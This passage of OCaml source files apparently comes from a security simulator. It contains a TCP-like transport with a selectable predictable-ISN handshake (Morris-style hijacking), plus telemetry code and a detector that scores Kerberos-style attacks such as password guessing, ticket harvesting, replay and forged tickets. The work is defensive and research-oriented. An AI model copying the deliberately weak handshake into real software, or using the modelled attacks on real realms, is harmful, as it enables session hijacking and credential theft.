  | None -> max_int
  | Some mtu -> max 1 (mtu - header_overhead)

let teardown c ~reset =
  if not c.detached then begin
    c.closed <- true;
    c.detached <- true;
    c.timer_armed <- false;
    Queue.clear c.unacked;
    Hashtbl.reset c.ooo;
    c.detach ();
    c.close_cb ~reset
  end

let send_rst c =
  bump c "tcpish.resets";
  transmit c
    { syn = false; ack = false; fin = false; rst = true; seq = c.snd_nxt;
      ackno = c.rcv_nxt; body = Bytes.empty }

let abort c =
  if not c.detached then begin
    send_rst c;
    teardown c ~reset:true
  end

let reset c why =
  Net.note c.net (Printf.sprintf "tcpish: reset (%s)" why);
  abort c

let send_ack c =
  transmit c
    { syn = false; ack = true; fin = false; rst = false; seq = c.snd_nxt;
      ackno = c.rcv_nxt; body = Bytes.empty }

(* Go-back-N: resend everything outstanding, with the cumulative ack
   refreshed on ack-bearing segments. *)
let retransmit_all c =
  bump c "tcpish.retransmits";
  Queue.iter
    (fun seg ->
      transmit c (if seg.ack then { seg with ackno = c.rcv_nxt } else seg))
    c.unacked

(* One retransmission timer per connection, armed only while something is
   outstanding. Backoff is exponential with seeded jitter from a per-conn
   stream split off the network RNG, so schedules are reproducible but a
   fleet of senders does not fire in lockstep. *)
let rec arm_timer c =
  if not c.timer_armed then begin
    c.timer_armed <- true;
    let jitter = 0.1 in
    let wait =
      c.rto *. (1.0 +. (Util.Rng.float c.rto_rng (2.0 *. jitter) -. jitter))
    in
    Engine.schedule_after (Net.engine c.net) wait (fun () -> timer_fire c)
  end

and timer_fire c =
  c.timer_armed <- false;
  if (not c.detached) && not (Queue.is_empty c.unacked) then
    if c.retries >= max_retries then reset c "retransmit limit exceeded"
    else begin
      c.retries <- c.retries + 1;
      retransmit_all c;
      c.rto <- Float.min max_rto (c.rto *. 2.0);
      arm_timer c
    end

let push_unacked c seg =
  Queue.add seg c.unacked;
  arm_timer c

(* Cumulative-ack processing. A valid ack advances [snd_una] by at most
   the outstanding span; anything further (e.g. the acks a desynchronized
   hijack victim receives for bytes it never sent) is ignored. *)
let handle_ack c ackno =
  let outstanding = seq_dist c.snd_una c.snd_nxt in
  let adv = seq_dist c.snd_una ackno in
  if adv = 0 then begin
    if outstanding > 0 && c.established then begin
      c.dup_acks <- c.dup_acks + 1;
      if c.dup_acks = 2 then begin
        (* Two duplicate acks signal a sequence gap at the receiver: fast
           retransmit rather than waiting out the timer. *)
        c.dup_acks <- 0;
        retransmit_all c
      end
    end
  end
  else if adv <= outstanding then begin
    let old_una = c.snd_una in
    c.snd_una <- ackno;
    c.dup_acks <- 0;
    c.retries <- 0;
    c.rto <- base_rto;
    let rec pop () =
      match Queue.peek_opt c.unacked with
      | Some seg when seq_dist old_una (seg.seq +% seg_span seg) <= adv ->
          ignore (Queue.pop c.unacked);
          pop ()
      | _ -> ()
    in
    pop ();
    if Queue.is_empty c.unacked && c.closed then
      (* Our FIN is acknowledged: the conversation is over. *)
      teardown c ~reset:false
  end

let send c body =
  if c.closed then invalid_arg "Tcpish.send: connection closed";
  let mss = max_seg_body c in
  let len = Bytes.length body in
  let off = ref 0 in
  while !off < len do
    let n = min mss (len - !off) in
    let chunk = if n = len && !off = 0 then body else Bytes.sub body !off n in
    let seg =
      { syn = false; ack = c.established; fin = false; rst = false;
        seq = c.snd_nxt; ackno = c.rcv_nxt; body = chunk }
    in
    push_unacked c seg;
    transmit c seg;
    c.snd_nxt <- c.snd_nxt +% n;
    c.sent <- c.sent + n;
    off := !off + n
  done

let on_data c fn = c.data_cb <- fn
let on_close c fn = c.close_cb <- fn

let close c =
  if not c.closed then begin
    c.closed <- true;
    let seg =
      { syn = false; ack = c.established; fin = true; rst = false;
        seq = c.snd_nxt; ackno = c.rcv_nxt; body = Bytes.empty }
    in
    push_unacked c seg;
    transmit c seg;
    c.snd_nxt <- c.snd_nxt +% 1
  end

(* Deliver the in-order prefix: the segment that just landed, then any
   buffered successors it unblocks. *)
let rec drain_in_order c =
  match Hashtbl.find_opt c.ooo c.rcv_nxt with
  | Some body ->
      Hashtbl.remove c.ooo c.rcv_nxt;
      advance c body
  | None -> ()

and advance c body =
  c.rcv_nxt <- c.rcv_nxt +% Bytes.length body;
  c.received <- c.received + Bytes.length body;
  c.data_cb body;
  drain_in_order c

(* Shared inbound segment handling once established. *)
let handle_established c seg =
  if c.detached then ()
  else if seg.rst then begin
    Net.note c.net "tcpish: connection reset by peer";
    teardown c ~reset:true
  end
  else if seg.syn then
    (* A retransmitted SYN-ACK: our handshake ack was lost. Re-ack. *)
    send_ack c
  else begin
    if seg.ack then handle_ack c seg.ackno;
    if c.detached then ()
    else begin
      let len = Bytes.length seg.body in
      if len > 0 then begin
        let off = seq_dist c.rcv_nxt seg.seq in
        if off = 0 then begin
          advance c seg.body;
          send_ack c
        end
        else if off < recv_window then begin
          (* A gap: buffer for reassembly and duplicate-ack so the sender
             retransmits the missing prefix instead of the bytes vanishing
             without trace. *)
          if
            (not (Hashtbl.mem c.ooo seg.seq))
            && Hashtbl.length c.ooo < max_ooo_segments
          then begin
            Hashtbl.replace c.ooo seg.seq seg.body;
            bump c "tcpish.ooo_buffered"
          end;
          send_ack c
        end
        else if seq_dist (seg.seq +% len) c.rcv_nxt <= recv_window then begin
          (* An old duplicate (retransmission of data we already have):
             re-ack so the sender's window advances. *)
          bump c "tcpish.duplicates";
          send_ack c
        end
        else begin
          Net.note c.net "tcpish: out-of-window segment dropped";
          send_ack c
        end
      end;
      if seg.fin && not c.detached then begin
        let fin_seq = seg.seq +% len in
        if seq_dist c.rcv_nxt fin_seq = 0 then begin
          c.rcv_nxt <- c.rcv_nxt +% 1;
          send_ack c;
          teardown c ~reset:false
        end
        else send_ack c (* FIN beyond a gap: ask for the retransmit *)
      end
    end
  end

(* Framing: 4-byte big-endian length prefix, reassembled across however
   many segments the MTU forced. A torn prefix simply waits for more
   bytes; an absurd length resets the connection. *)
let feed_frames c chunk =
  Buffer.add_bytes c.fbuf chunk;
  let continue = ref true in
  while !continue do
    continue := false;
    let blen = Buffer.length c.fbuf in
    if blen >= 4 && not c.detached then begin
      let b = Buffer.to_bytes c.fbuf in
      let mlen =
        (Char.code (Bytes.get b 0) lsl 24)
        lor (Char.code (Bytes.get b 1) lsl 16)
        lor (Char.code (Bytes.get b 2) lsl 8)
        lor Char.code (Bytes.get b 3)
      in
      if mlen > max_frame_len then reset c "oversized frame length"
      else if blen >= 4 + mlen then begin
        let msg = Bytes.sub b 4 mlen in
        Buffer.clear c.fbuf;
        Buffer.add_subbytes c.fbuf b (4 + mlen) (blen - 4 - mlen);
        (match c.msg_cb with Some fn -> fn msg | None -> ());
        continue := true
      end
    end
  done

let on_message c fn =
  c.msg_cb <- Some fn;
  c.data_cb <- feed_frames c

let send_message c msg =
  let len = Bytes.length msg in
  if len > max_frame_len then invalid_arg "Tcpish.send_message: frame too large";
  let framed = Bytes.create (4 + len) in
  Bytes.set framed 0 (Char.chr ((len lsr 24) land 0xFF));
  Bytes.set framed 1 (Char.chr ((len lsr 16) land 0xFF));
  Bytes.set framed 2 (Char.chr ((len lsr 8) land 0xFF));
  Bytes.set framed 3 (Char.chr (len land 0xFF));
  Bytes.blit msg 0 framed 4 len;
  send c framed

let make_conn net host ~local_addr ~local_port ~peer_addr ~peer_port ~isn =
  { net; host; local_addr; local_port; peer_addr; peer_port;
    rto_rng = Util.Rng.split (Net.rng net);
    snd_nxt = isn; snd_una = isn; rcv_nxt = 0; established = false;
    closed = false; detached = false; data_cb = ignore;
    close_cb = (fun ~reset:_ -> ()); sent = 0; received = 0;
    unacked = Queue.create (); ooo = Hashtbl.create 8; dup_acks = 0;
    rto = base_rto; retries = 0; timer_armed = false; detach = ignore;
    fbuf = Buffer.create 64; msg_cb = None }

let listen net host ~port ?(isn = Random_isn) ~on_accept () =
  (* Connection table keyed by the apparent peer. *)
  let conns : (Addr.t * int, conn * bool ref (* handshake done *)) Hashtbl.t =
    Hashtbl.create 8
  in
  Net.listen net host ~port (fun pkt ->
      match decode_segment pkt.Packet.payload with
      | None -> Net.note net "tcpish: malformed segment"
      | Some seg -> (
          let key = (pkt.Packet.src, pkt.Packet.sport) in
          match Hashtbl.find_opt conns key with
          | None ->
              if seg.syn && not seg.ack then begin
                let c =
                  make_conn net host ~local_addr:pkt.Packet.dst
                    ~local_port:port ~peer_addr:pkt.Packet.src
                    ~peer_port:pkt.Packet.sport ~isn:(predict_isn net isn)
                in
                c.rcv_nxt <- (seg.seq + 1) land seq_mask;
                c.detach <- (fun () -> Hashtbl.remove conns key);
                Hashtbl.replace conns key (c, ref false);
                (* SYN+ACK — kept on the retransmission queue until the
                   final handshake ack arrives. *)
                let synack =
                  { syn = true; ack = true; fin = false; rst = false;
                    seq = c.snd_nxt; ackno = c.rcv_nxt; body = Bytes.empty }
                in
                push_unacked c synack;
                transmit c synack;
                c.snd_nxt <- c.snd_nxt +% 1
              end
          | Some (c, done_) ->
              if (not !done_) && seg.syn && not seg.ack then
                (* Duplicate SYN: our SYN-ACK was lost. Resend it now. *)
                retransmit_all c
              else if (not !done_) && seg.ack && not seg.syn then begin
                (* Final ACK of the handshake: the server checks that the
                   client echoes its ISN — the only proof of return-path
                   reachability, and exactly what Morris predicted. *)
                if seg.ackno = c.snd_nxt then begin
                  done_ := true;
                  c.established <- true;
                  handle_ack c seg.ackno;
                  on_accept c;
                  (* the ACK segment may itself carry data *)
                  if Bytes.length seg.body > 0 || seg.fin || seg.rst then
                    handle_established c seg
                end
                else Net.note net "tcpish: bad handshake ack"
              end
              else if !done_ then handle_established c seg))

let connect net host ?src ?(isn = Random_isn) ~dst ~dport ~on_connected () =
  let sport = Net.ephemeral_port net in
  let local_addr = match src with None -> Host.primary_ip host | Some a -> a in
  let c =
    make_conn net host ~local_addr ~local_port:sport ~peer_addr:dst
      ~peer_port:dport ~isn:(predict_isn net isn)
  in
  c.detach <- (fun () -> Net.unlisten net host ~port:sport);
  Net.listen net host ~port:sport (fun pkt ->
      match decode_segment pkt.Packet.payload with
      | None -> ()
      | Some seg ->
          if (not c.established) && seg.rst then teardown c ~reset:true
          else if (not c.established) && seg.syn && seg.ack then begin
            (* snd_nxt already counts the SYN we sent. *)
            if seg.ackno = c.snd_nxt then begin
              c.rcv_nxt <- (seg.seq + 1) land seq_mask;
              c.established <- true;
              handle_ack c seg.ackno;
              send_ack c;
              on_connected c
            end
          end
          else if c.established then handle_established c seg);
  (* SYN — retransmitted until the SYN-ACK acknowledges it. *)
  let syn =
    { syn = true; ack = false; fin = false; rst = false; seq = c.snd_nxt;
      ackno = 0; body = Bytes.empty }
  in
  push_unacked c syn;
  transmit c syn;
  c.snd_nxt <- c.snd_nxt +% 1;
  c
