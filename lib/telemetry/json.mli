(** Minimal JSON values with a byte-deterministic printer (object fields
    keep the given order, one canonical float format) and a strict parser
    — enough for the telemetry exporters and their round-trip tests. *)

type t =
  | Null
  | Bool of bool
  | Int of int
  | Float of float
  | Str of string
  | List of t list
  | Obj of (string * t) list

val to_string : t -> string
val of_string : string -> (t, string) result

(** Accessors for tests and schema checks; [None] on shape mismatch. *)

val member : string -> t -> t option
val to_float : t -> float option
val to_int : t -> int option
val to_str : t -> string option
val to_list : t -> t list option
