(* The metrics registry: named counters, gauges, and fixed-bucket
   histograms. Recording is O(1) (a histogram observe is a bounded linear
   scan over ~a dozen bucket bounds); exporting walks the registry sorted
   by name so output is deterministic. *)

type counter = { c_name : string; mutable c_value : int }
type gauge = { g_name : string; mutable g_value : float }

type histogram = {
  h_name : string;
  h_bounds : float array;  (* strictly increasing upper bounds; +inf implicit *)
  h_counts : int array;    (* length = Array.length h_bounds + 1 *)
  mutable h_count : int;
  mutable h_sum : float;
  mutable h_min : float;
  mutable h_max : float;
}

type metric = Counter of counter | Gauge of gauge | Histogram of histogram

type t = {
  tbl : (string, metric) Hashtbl.t;
  next_suffix : (string, int) Hashtbl.t;  (* base -> next fresh_name suffix *)
}

let create () = { tbl = Hashtbl.create 64; next_suffix = Hashtbl.create 8 }

(* Spans are sim-time; the sim's base latency is 5 ms, so the buckets
   bracket one-hop to many-round-trip exchanges. *)
let default_latency_buckets =
  [| 0.001; 0.0025; 0.005; 0.01; 0.02; 0.05; 0.1; 0.25; 0.5; 1.0; 2.5; 5.0 |]

let kind_of = function
  | Counter _ -> "counter"
  | Gauge _ -> "gauge"
  | Histogram _ -> "histogram"

let clash name have want =
  invalid_arg
    (Printf.sprintf "Metrics: %S is a %s, not a %s" name (kind_of have) want)

let counter t name =
  match Hashtbl.find_opt t.tbl name with
  | Some (Counter c) -> c
  | Some m -> clash name m "counter"
  | None ->
      let c = { c_name = name; c_value = 0 } in
      Hashtbl.replace t.tbl name (Counter c);
      c

let gauge t name =
  match Hashtbl.find_opt t.tbl name with
  | Some (Gauge g) -> g
  | Some m -> clash name m "gauge"
  | None ->
      let g = { g_name = name; g_value = 0.0 } in
      Hashtbl.replace t.tbl name (Gauge g);
      g

let histogram ?(buckets = default_latency_buckets) t name =
  match Hashtbl.find_opt t.tbl name with
  | Some (Histogram h) -> h
  | Some m -> clash name m "histogram"
  | None ->
      Array.iteri
        (fun i b ->
          if i > 0 && buckets.(i - 1) >= b then
            invalid_arg "Metrics.histogram: bounds must be strictly increasing")
        buckets;
      let h =
        { h_name = name; h_bounds = Array.copy buckets;
          h_counts = Array.make (Array.length buckets + 1) 0; h_count = 0;
          h_sum = 0.0; h_min = infinity; h_max = neg_infinity }
      in
      Hashtbl.replace t.tbl name (Histogram h);
      h

(* A fresh name for per-instance metrics: [base] if unused, else [base#2],
   [base#3], … — two KDCs for the same realm keep distinct counters. The
   next suffix per base is remembered so heavy churn (a benchmark creating
   thousands of instances) stays O(1) per call. *)
let fresh_name t base =
  if not (Hashtbl.mem t.tbl base) then base
  else
    let start = match Hashtbl.find_opt t.next_suffix base with Some i -> i | None -> 2 in
    let rec go i =
      let name = Printf.sprintf "%s#%d" base i in
      if Hashtbl.mem t.tbl name then go (i + 1) else (i, name)
    in
    let i, name = go start in
    Hashtbl.replace t.next_suffix base (i + 1);
    name

let incr c = c.c_value <- c.c_value + 1
let add c n = c.c_value <- c.c_value + n
let value c = c.c_value

let set g v = g.g_value <- v
let gauge_value g = g.g_value

let observe h v =
  let n = Array.length h.h_bounds in
  let rec slot i = if i < n && v > h.h_bounds.(i) then slot (i + 1) else i in
  let i = slot 0 in
  h.h_counts.(i) <- h.h_counts.(i) + 1;
  h.h_count <- h.h_count + 1;
  h.h_sum <- h.h_sum +. v;
  if v < h.h_min then h.h_min <- v;
  if v > h.h_max then h.h_max <- v

let hist_count h = h.h_count
let hist_sum h = h.h_sum
let bucket_counts h = Array.copy h.h_counts

(* Interpolated quantile: find the bucket the rank falls in, then assume
   observations spread uniformly across it. The overflow bucket's upper
   edge is the observed maximum (tracked exactly), so p99 stays finite
   even when the tail escapes the fixed bounds. *)
let quantile h q =
  if h.h_count = 0 then 0.0
  else
    let q = if q < 0.0 then 0.0 else if q > 1.0 then 1.0 else q in
    let target = q *. float_of_int h.h_count in
    let n = Array.length h.h_bounds in
    let rec go i cum =
      if i > n then h.h_max
      else
        let c = h.h_counts.(i) in
        let cum' = cum +. float_of_int c in
        if c > 0 && cum' >= target then
          let lo = if i = 0 then 0.0 else h.h_bounds.(i - 1) in
          let hi = if i < n then h.h_bounds.(i) else h.h_max in
          let frac = (target -. cum) /. float_of_int c in
          let v = lo +. ((hi -. lo) *. frac) in
          let v = if v < h.h_min then h.h_min else v in
          if v > h.h_max then h.h_max else v
        else go (i + 1) cum'
    in
    go 0 0.0

(* --- export -------------------------------------------------------- *)

let sorted t =
  Hashtbl.fold (fun name m acc -> (name, m) :: acc) t.tbl []
  |> List.sort (fun (a, _) (b, _) -> compare a b)

let histograms t =
  List.filter_map
    (fun (name, m) -> match m with Histogram h -> Some (name, h) | _ -> None)
    (sorted t)

let bucket_label bound =
  if Float.is_integer bound then Printf.sprintf "%.0f" bound
  else Printf.sprintf "%g" bound

let hist_to_json h =
  let buckets =
    List.concat
      [ Array.to_list
          (Array.mapi
             (fun i b -> (Printf.sprintf "le_%s" (bucket_label b), Json.Int h.h_counts.(i)))
             h.h_bounds);
        [ ("le_inf", Json.Int h.h_counts.(Array.length h.h_bounds)) ] ]
  in
  Json.Obj
    [ ("type", Json.Str "histogram"); ("count", Json.Int h.h_count);
      ("sum", Json.Float h.h_sum);
      ("min", if h.h_count = 0 then Json.Null else Json.Float h.h_min);
      ("max", if h.h_count = 0 then Json.Null else Json.Float h.h_max);
      ("p50", if h.h_count = 0 then Json.Null else Json.Float (quantile h 0.5));
      ("p95", if h.h_count = 0 then Json.Null else Json.Float (quantile h 0.95));
      ("p99", if h.h_count = 0 then Json.Null else Json.Float (quantile h 0.99));
      ("buckets", Json.Obj buckets) ]

let to_json t =
  Json.Obj
    (List.map
       (fun (name, m) ->
         ( name,
           match m with
           | Counter c ->
               Json.Obj [ ("type", Json.Str "counter"); ("value", Json.Int c.c_value) ]
           | Gauge g ->
               Json.Obj [ ("type", Json.Str "gauge"); ("value", Json.Float g.g_value) ]
           | Histogram h -> hist_to_json h ))
       (sorted t))

let to_text t =
  let b = Buffer.create 512 in
  List.iter
    (fun (name, m) ->
      match m with
      | Counter c -> Printf.bprintf b "counter   %-48s %d\n" name c.c_value
      | Gauge g -> Printf.bprintf b "gauge     %-48s %g\n" name g.g_value
      | Histogram h ->
          Printf.bprintf b "histogram %-48s count=%d sum=%.6f" name h.h_count h.h_sum;
          if h.h_count > 0 then
            Printf.bprintf b " min=%.6f max=%.6f p50=%.6f p95=%.6f p99=%.6f"
              h.h_min h.h_max (quantile h 0.5) (quantile h 0.95) (quantile h 0.99);
          Buffer.add_char b '\n';
          Array.iteri
            (fun i bound ->
              if h.h_counts.(i) > 0 then
                Printf.bprintf b "          %-48s   le %s: %d\n" "" (bucket_label bound)
                  h.h_counts.(i))
            h.h_bounds;
          let overflow = h.h_counts.(Array.length h.h_bounds) in
          if overflow > 0 then
            Printf.bprintf b "          %-48s   le inf: %d\n" "" overflow)
    (sorted t);
  Buffer.contents b
