(** The detection plane: online anomaly rules over the hook events the
    KDC and AP servers feed through the collector's {!Collector.set_sink}
    tap (and, in full-telemetry runs, into the trace ring).

    The paper's attacks are invisible to an operator who only sees
    aggregate counts: a dictionary mill is just "more AS traffic", a
    harvested AS_REP is one quiet request, a forged ticket arrives at the
    AP server already sealed. This module watches the per-event stream
    instead: it learns per-source and per-principal EWMA rate baselines
    during a benign warm-up window, then scores online rules — AS_REQ
    bursts against baseline, repeated preauth-failure runs (guessing),
    the harvest signature (many distinct principals asked, no follow-up
    TGS/AP activity), replay-cache hits, and ticket-shape anomalies
    (lifetime above realm policy, address-free tickets, checksum
    failures). A scorer compares fired alerts against ground-truth labels
    from {!Workloads.Attack_mix} and reports detection rate,
    false-positive rate, and time-to-detect per attack class.

    Subjects are strings with a kind prefix: ["src:10.9.0.1"] or
    ["principal:u00017"]. Everything is deterministic: same event stream,
    same alerts, same JSON bytes. *)

(** Rule thresholds and the learning schedule. *)
type policy = {
  warmup : float;
      (** seconds after the first observed event before any rule may
          fire; baselines learn throughout *)
  epoch : float;  (** rate-bucket width in simulated seconds *)
  ewma_alpha : float;  (** weight of the newest epoch in the baseline *)
  burst_factor : float;
      (** alert when an epoch's AS_REQ count exceeds this multiple of the
          subject's baseline (floored at 1/epoch) *)
  burst_floor : int;  (** …and is at least this many requests *)
  preauth_run : int;  (** consecutive preauth failures per source *)
  harvest_min_clients : int;
      (** distinct client principals one source must ask about *)
  harvest_max_followups : int;
      (** TGS/AP requests tolerated before the source stops looking like
          a pure harvester *)
  replay_min_hits : int;  (** replay-cache hits per source *)
  checksum_min_hits : int;
      (** bad-checksum/integrity AP outcomes per source (2 by default:
          one corrupt frame could be line noise) *)
  max_lifetime : float;  (** realm policy: longest legitimate lifetime *)
  expect_addr : bool;
      (** whether the realm binds tickets to addresses — if so, an
          address-free ticket at an AP server is itself an anomaly *)
  score_threshold : float;  (** alerts scoring below this are dropped *)
}

val default_policy : policy

type alert = {
  al_time : float;  (** first firing — the detection timestamp *)
  al_rule : string;
      (** "as-burst" | "preauth-run" | "harvest" | "replay" |
          "addr-anomaly" | "forged-ticket" | "checksum-anomaly" *)
  al_subject : string;
  mutable al_score : float;  (** max over firings, in [0, 1] *)
  mutable al_count : int;  (** firings folded into this alert *)
  al_evidence : string;
}

type t

val create : ?policy:policy -> unit -> t
val policy : t -> policy

val observe : t -> Trace.event -> unit
(** Feed one event. Kinds consumed: [auth.as_req], [auth.tgs_req],
    [auth.ap_req] (attrs [src]/[client]/[outcome]), [ticket.validated]
    (attrs [src]/[lifetime]/[addr]), [ticket.issued]; everything else is
    ignored, so the detector can sit directly on a collector sink. *)

val attach : t -> Collector.t -> unit
(** [Collector.set_sink c (Some (observe t))] — the detector sees every
    hook event even when the collector runs lightweight. *)

val observed : t -> int
(** Events consumed (known kinds only). *)

val baseline : t -> subject:string -> float
(** Learned EWMA rate (requests per epoch) for ["src:…"] or
    ["principal:…"]; 0 for a subject never seen — a zero-traffic
    principal has a zero baseline, so its first burst still trips the
    absolute floor. *)

val alerts : t -> alert list
(** Unique (rule, subject) alerts in first-firing order. *)

val alert_count : t -> int

val first_alert : t -> subject:string -> rules:string list -> alert option
(** Earliest alert on [subject] whose rule is in [rules]. *)

(** {2 Scoring against ground truth} *)

type label = {
  lb_class : string;
      (** "password_guess" | "ticket_harvest" | "replay_auth" |
          "forged_ticket" *)
  lb_subject : string;  (** the subject the detector should flag *)
  lb_start : float;  (** when this attacker began — TTD is measured from here *)
}

type class_score = {
  cs_class : string;
  cs_attackers : int;
  cs_detected : int;
  cs_detection_rate : float;
  cs_benign_flagged : int;
      (** benign subjects flagged by this class's rules *)
  cs_false_positive_rate : float;
  cs_mean_ttd : float;  (** over detected attackers; 0 when none *)
  cs_max_ttd : float;
}

type score = {
  sc_classes : class_score list;  (** in first-label order *)
  sc_benign : int;
  sc_benign_flagged : int;  (** benign subjects flagged by any rule *)
  sc_false_positive_rate : float;
  sc_alerts : int;
}

val rules_for_class : string -> string list
(** Which rules count as detecting each attack class (e.g.
    ["password_guess"] → [["preauth-run"; "as-burst"]]). Unknown classes
    map to []. *)

val score : t -> labels:label list -> benign:string list -> score
(** [labels] carry one entry per attacker subject; [benign] lists
    subjects that should never be flagged (an alert on one is a false
    positive). A labelled attacker counts as detected when any alert on
    its subject matches its class's rules; its time-to-detect is the
    first such alert's time minus [lb_start]. *)

val report : t -> string
(** Operator console: the alert table, most recent last. *)

val policy_to_json : policy -> Json.t
val alerts_to_json : alert list -> Json.t
val score_to_json : score -> Json.t
