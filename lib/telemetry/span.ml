(* A span: one timed protocol step, opened and closed at simulation times.
   The record is plain data — lifecycle (ids, nesting context, the open-span
   table, duration histograms) is managed by {!Collector}. *)

type t = {
  id : int;
  name : string;
  component : string;
  parent : int option;
  start_time : float;
  mutable end_time : float option;
  mutable outcome : string;
  mutable attrs : (string * string) list;
}

let is_open s = s.end_time = None

let duration s =
  match s.end_time with None -> None | Some e -> Some (e -. s.start_time)

let set_attr s k v = s.attrs <- (k, v) :: List.remove_assoc k s.attrs

let pp ppf s =
  Format.fprintf ppf "span#%d %s/%s [%0.4f..%s] %s" s.id s.component s.name
    s.start_time
    (match s.end_time with None -> "open" | Some e -> Printf.sprintf "%0.4f" e)
    (if is_open s then "-" else s.outcome)
