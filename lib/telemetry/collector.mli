(** The telemetry collector: one metrics registry + one trace ring + one
    operator view + the span lifecycle, stamped by a pluggable clock that
    the simulator points at [Sim.Engine.now] — never the wall clock, so
    identical runs dump byte-identical telemetry. *)

type t

val create : ?trace_capacity:int -> ?lightweight:bool -> unit -> t
val metrics : t -> Metrics.t
val trace : t -> Trace.t
val ops : t -> Opsview.t

(** {2 Lightweight mode}

    For pure-throughput runs (the million-user load campaign): counters
    and span-duration histograms stay live — reports are computed from
    them — but the trace ring, the open-span table, and the per-span
    trace events are skipped, which is most of the per-packet telemetry
    cost. Off by default; flip it per collector, never globally. *)

val set_lightweight : t -> bool -> unit
val lightweight : t -> bool

val set_clock : t -> (unit -> float) -> unit
(** Install the time source for events/spans recorded without an explicit
    [?time]. [Sim.Net.create] points this at its engine. *)

val now : t -> float

val event :
  t -> ?time:float -> ?severity:Trace.severity -> component:string ->
  kind:string -> (string * string) list -> unit

(** {2 The event sink}

    A live tap on explicit {!event} calls (protocol hooks, fault
    firings, notes — not the per-span debug machinery). Unlike the trace
    ring, the sink stays fed in lightweight mode: this is how the
    detection plane watches a million-user run whose ring is switched
    off. One sink per collector; [set_sink t None] detaches. *)

val set_sink : t -> (Trace.event -> unit) option -> unit

val wants_events : t -> bool
(** Whether an {!event} call would go anywhere (sink attached, or ring
    live). Hot paths check this before building attribute lists. *)

(** {2 Spans}

    [span_begin] opens a span (default parent: the innermost span entered
    with [with_context]); [span_finish] closes it, records a [span.end]
    trace event and feeds the duration into the
    ["span.<name>.seconds"] histogram. Both are idempotent-safe:
    finishing a closed span is a no-op. *)

val span_begin :
  t -> ?time:float -> ?parent:int -> ?attrs:(string * string) list ->
  component:string -> string -> Span.t

val span_finish : t -> ?time:float -> ?outcome:string -> Span.t -> unit
val span_abandon : t -> ?time:float -> Span.t -> unit
(** Close with outcome ["abandoned"] and a [Warn] trace event — for spans
    whose completion event can never arrive (dropped packets, timeouts). *)

val with_context : t -> Span.t -> (unit -> 'a) -> 'a
val current_span : t -> Span.t option
val open_spans : t -> Span.t list
(** Sorted by id. *)

val open_span_count : t -> int
val abandon_open_spans : t -> ?time:float -> unit -> int
(** Abandon every open span (the engine calls this when the event queue
    drains); returns how many were open. *)

(** {2 Dumps} *)

val trace_jsonl : t -> string
val metrics_json : t -> Json.t
val metrics_text : t -> string

(** {2 The process-wide default}

    Components accept [?telemetry] and fall back to this collector, so
    unmodified call sites are observed without plumbing. Harnesses wanting
    isolation pass their own collector or reset the default. *)

val default : unit -> t
val set_default : t -> unit
val fresh_default : unit -> t
(** Install and return a brand-new default collector. *)
