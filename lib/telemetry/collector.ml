(* The collector binds one metrics registry, one trace ring, one operator
   view, and the span lifecycle into a single handle that the simulator
   and every instrumented component share.

   Time: spans and events are stamped by the collector's clock, which the
   simulator points at [Sim.Engine.now] (never the wall clock), so two
   identical runs dump byte-identical telemetry.

   Nesting: a context stack carries the "current" span across synchronous
   calls — [with_context c span f] makes [span] the default parent for
   any span begun inside [f]. The network wraps packet delivery in the
   packet's span context, so a KDC handler's span nests under the packet
   that triggered it, which itself nests under the client exchange that
   sent the packet. *)

type t = {
  metrics : Metrics.t;
  trace : Trace.t;
  ops : Opsview.t;
  mutable clock : unit -> float;
  mutable next_span_id : int;
  mutable lightweight : bool;
  mutable sink : (Trace.event -> unit) option;
  open_table : (int, Span.t) Hashtbl.t;
  span_hists : (string, Metrics.histogram) Hashtbl.t;
  mutable context : Span.t list;
}

let create ?trace_capacity ?(lightweight = false) () =
  { metrics = Metrics.create (); trace = Trace.create ?capacity:trace_capacity ();
    ops = Opsview.create (); clock = (fun () -> 0.0); next_span_id = 1;
    lightweight; sink = None; open_table = Hashtbl.create 16;
    span_hists = Hashtbl.create 16; context = [] }

let metrics t = t.metrics
let trace t = t.trace
let ops t = t.ops

let set_lightweight t on = t.lightweight <- on
let lightweight t = t.lightweight

let set_clock t f = t.clock <- f
let now t = t.clock ()

(* The sink is a live tap on explicit [event] calls (hooks, faults,
   notes — not the per-span machinery). Unlike the trace ring it stays
   fed in lightweight mode, which is what lets a detector watch a
   million-user run whose ring is switched off. *)
let set_sink t f = t.sink <- f
let wants_events t = t.sink <> None || not t.lightweight

let event t ?time ?(severity = Trace.Info) ~component ~kind attrs =
  if t.sink <> None || not t.lightweight then begin
    let time = match time with Some x -> x | None -> now t in
    let e = { Trace.time; severity; component; kind; attrs } in
    (match t.sink with Some f -> f e | None -> ());
    if not t.lightweight then Trace.record t.trace e
  end

(* --- spans --------------------------------------------------------- *)

let current_span t = match t.context with [] -> None | s :: _ -> Some s

let span_begin t ?time ?parent ?(attrs = []) ~component name =
  let time = match time with Some x -> x | None -> now t in
  let parent =
    match parent with
    | Some _ as p -> p
    | None -> Option.map (fun (s : Span.t) -> s.Span.id) (current_span t)
  in
  let span =
    { Span.id = t.next_span_id; name; component; parent; start_time = time;
      end_time = None; outcome = "open"; attrs }
  in
  t.next_span_id <- t.next_span_id + 1;
  (* Lightweight mode: spans still exist (their duration feeds the
     histograms the load reports are computed from) but the open-span
     table and the per-span trace events — the per-packet cost — are
     skipped. *)
  if not t.lightweight then begin
    Hashtbl.replace t.open_table span.Span.id span;
    Trace.event t.trace ~time ~severity:Trace.Debug ~component ~kind:"span.begin"
      ([ ("span", string_of_int span.Span.id); ("name", name) ]
      @ (match parent with
        | Some p -> [ ("parent", string_of_int p) ]
        | None -> [])
      @ attrs)
  end;
  span

(* One string concatenation + registry probe per distinct span name, not
   per finish: finishing a span is a memo-table hit and an observe. *)
let span_hist t name =
  match Hashtbl.find_opt t.span_hists name with
  | Some h -> h
  | None ->
      let h = Metrics.histogram t.metrics ("span." ^ name ^ ".seconds") in
      Hashtbl.add t.span_hists name h;
      h

let span_finish t ?time ?(outcome = "ok") (span : Span.t) =
  if Span.is_open span then begin
    let time = match time with Some x -> x | None -> now t in
    span.Span.end_time <- Some time;
    span.Span.outcome <- outcome;
    let duration = time -. span.Span.start_time in
    Metrics.observe (span_hist t span.Span.name) duration;
    if not t.lightweight then begin
      Hashtbl.remove t.open_table span.Span.id;
      Trace.event t.trace ~time ~severity:Trace.Debug ~component:span.Span.component
        ~kind:"span.end"
        [ ("span", string_of_int span.Span.id); ("name", span.Span.name);
          ("outcome", outcome);
          ("duration_ms", Printf.sprintf "%.3f" (duration *. 1000.0)) ]
    end
  end

let span_abandon t ?time (span : Span.t) =
